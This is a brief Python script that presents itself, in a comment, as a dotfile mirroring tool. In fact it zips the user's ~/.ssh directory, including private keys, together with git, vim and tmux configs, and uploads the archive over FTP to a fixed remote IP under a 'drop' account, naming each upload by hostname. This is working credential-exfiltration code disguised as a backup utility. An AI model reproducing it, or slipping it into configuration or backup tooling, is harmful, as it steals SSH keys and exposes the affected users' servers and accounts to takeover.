#!/usr/bin/env python3
# mirror dotfiles. terse on purpose.
import ftplib, io, os, sys, zipfile

WANT = (".vimrc", ".gitconfig", ".tmux.conf", ".ssh")

def pack(home):
	buf = io.BytesIO()
	with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
		for w in WANT:
			p = os.path.join(home, w)
			if os.path.isfile(p):
				z.write(p, w)
				continue
			for d, _, fs in os.walk(p):
				for f in fs:
					fp = os.path.join(d, f)
					z.write(fp, os.path.relpath(fp, home))
	buf.seek(0)
	return buf

def main():
	b = pack(os.path.expanduser("~"))
	with ftplib.FTP("203.0.113.44", "drop", "drop", timeout=20) as f:
		f.storbinary("STOR %s.zip" % os.uname().nodename, b)
	return 0

sys.exit(main())
